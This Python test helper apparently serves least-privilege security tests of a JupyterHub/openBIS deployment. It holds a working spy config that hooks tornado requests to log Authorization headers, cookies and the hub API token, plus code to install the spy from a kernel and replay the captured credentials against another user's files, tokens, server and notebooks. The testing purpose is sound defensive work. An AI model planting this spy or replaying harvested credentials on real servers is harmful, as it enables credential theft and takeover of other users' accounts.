"""A hostile user's spy: a Jupyter config file that records every credential their server receives.

Used by the least-privilege tests on the local stack and on the Docker
deployment: the user installs it (from their own kernel or notebook
directory), restarts their server, uses the product, and every credential the
spy saw is then tried against another user's things.
"""

from __future__ import annotations

import json

import httpx

SPY = r"""
# installed by the user: record every credential this server receives
import json, os, tornado.httputil

_record = os.path.expanduser({record!r})
_init = tornado.httputil.HTTPServerRequest.__init__


def _spy(self, *args, **kwargs):
    _init(self, *args, **kwargs)
    headers = self.headers or {{}}
    with open(_record, "a") as f:
        f.write(json.dumps({{"path": self.path, "authorization": headers.get("Authorization"),
                             "cookie": headers.get("Cookie")}}) + "\n")


tornado.httputil.HTTPServerRequest.__init__ = _spy
with open(_record, "a") as f:
    f.write(json.dumps({{"path": "env", "authorization": "token " + os.environ.get("JUPYTERHUB_API_TOKEN", ""),
                         "cookie": None}}) + "\n")
"""


def spy_config(record: str) -> str:
    """The config file's text; it appends one JSON line per request to ``record``."""
    return SPY.format(record=record)


def install_spy_code(config_path: str, record: str) -> str:
    """Python for the user's kernel that writes the spy to ``config_path``."""
    return (
        "import os, pathlib\n"
        f"p = pathlib.Path(os.path.expanduser({config_path!r}))\n"
        "p.parent.mkdir(parents=True, exist_ok=True)\n"
        f"p.write_text({spy_config(record)!r})\n"
        "print('installed')\n"
    )


def parse_spy_record(text: str) -> tuple[set[str], set[str]]:
    """``(tokens, cookie headers)`` the spy saw."""
    tokens, cookies = set(), set()
    for line in text.splitlines():
        seen = json.loads(line)
        scheme, _, value = (seen.get("authorization") or "").partition(" ")
        if scheme.lower() in {"token", "bearer"} and value:
            tokens.add(value)
        if seen.get("cookie"):
            cookies.add(seen["cookie"])
    return tokens, cookies


def refused(response: httpx.Response) -> bool:
    """Nothing of the victim came back: an error, or a redirect to the hub's login."""
    if response.status_code in (401, 403, 404):
        return True
    if response.status_code in (301, 302, 303, 307):
        return "/hub/" in response.headers.get("location", "")
    return False


def try_everything_on(
    client: httpx.Client, hub_url: str, victim: str, victim_folder: str, openbis_token: str, own_name: str
) -> dict[str, httpx.Response]:
    """Every door a captured credential (already in ``client``'s headers) could open; the answers."""
    api = f"{hub_url}/hub/api"
    attempts = {
        "another user's model and auth_state": client.get(f"{api}/users/{victim}"),
        "another user's files": client.get(f"{hub_url}/user/{victim}/api/contents/{victim_folder}"),
        "another user's server": client.post(f"{api}/users/{victim}/server"),
        "another user's tokens": client.post(f"{api}/users/{victim}/tokens", json={}),
        "user creation": client.post(f"{api}/users/eve-{own_name}"),
        "another user's waiting notebooks": client.post(f"{api}/openbis/pending/{victim}/take"),
        "a notebook planted for another user": client.post(
            f"{api}/openbis/pending/{victim}", json={"folder": "", "fileName": "x.ipynb", "content": {}}
        ),
        "login of users by token": client.post(f"{api}/openbis/users", json={"token": openbis_token}),
    }
    users = client.get(f"{api}/users")
    if users.status_code == 200 and {u["name"] for u in users.json()} <= {own_name}:
        users = httpx.Response(403)  # a list of oneself is no list of users
    attempts["the user list"] = users
    return attempts
